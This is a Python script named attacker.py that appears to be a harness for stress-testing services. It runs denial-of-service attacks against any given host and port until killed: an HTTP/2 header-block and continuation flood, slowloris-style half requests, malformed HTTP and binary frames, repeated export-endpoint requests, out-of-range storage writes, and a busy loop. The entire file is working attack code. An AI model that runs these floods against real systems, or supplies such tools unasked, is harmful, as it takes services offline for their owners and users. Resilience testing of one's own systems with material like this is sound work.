"""Attack one port until killed: `attacker.py KIND HOST:PORT`. A process of its own, with the standard library only."""

from __future__ import annotations

import contextlib
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable

Address = tuple[str, int]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def http2_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header_blocks() -> bytes:
    """Header blocks of 60 KB, each of one-byte indexed fields."""
    out = PREFACE + http2_frame(4, 0, 0, b"")
    for stream in range(1, 121, 2):
        pieces = [b"\x82" * 15_000] * 4
        for number, piece in enumerate(pieces):
            out += http2_frame(1 if number == 0 else 9, 4 if number == len(pieces) - 1 else 0, stream, piece)
    return out


def send_all(address: Address, data: bytes, wait_s: float = 0.5) -> None:
    with contextlib.suppress(OSError), socket.create_connection(address, timeout=5) as sock:
        sock.settimeout(wait_s)
        sock.sendall(data)
        while sock.recv(1 << 16):
            pass


def half_requests(address: Address) -> None:
    """Many connections, each with the beginning of a request, opened again when they are closed."""
    kept: list[socket.socket] = []
    while True:
        with contextlib.suppress(OSError):
            sock = socket.create_connection(address, timeout=5)
            sock.sendall(b"GET /api")
            kept.append(sock)
        if len(kept) >= 300:
            kept.pop(0).close()
            time.sleep(0.005)


def repeated(data: bytes) -> Callable[[Address], None]:
    def attack(address: Address) -> None:
        while True:
            send_all(address, data)

    return attack


def high_numbers(address: Address) -> None:
    """Writes to a storage host under a number that no master has given out."""
    body = bytes(64 << 10)
    while True:
        data = b""
        for part in range(16):
            head = (0x3253414C, 1, 0, 0, len(body), (1 << 32) + part * len(body), zlib.crc32(body), 1 << 63)
            data += struct.pack("<IBBHIQIQ", *head) + body
        send_all(address, data, wait_s=0.05)


def only_busy(_address: Address) -> None:
    while True:
        pass


ATTACKS: dict[str, Callable[[Address], None]] = {
    "header blocks": repeated(header_blocks()),
    "half requests": half_requests,
    "malformed requests": repeated(b"GET / HTTP/1.1\r\nHost: x\r\nno colon\r\n\r\n" * 20),
    "exports": repeated(b"GET /api/export HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"),
    "broken frames": repeated(struct.pack("<BBBBIIII", 0x15, 0, 0, 0, 1, 0x5EED, 1 << 30, 0) + b"x" * 1000),
    "high numbers": high_numbers,
    "only busy": only_busy,
}


if __name__ == "__main__":
    host, _, port = sys.argv[2].rpartition(":")
    ATTACKS[sys.argv[1]]((host, int(port)))
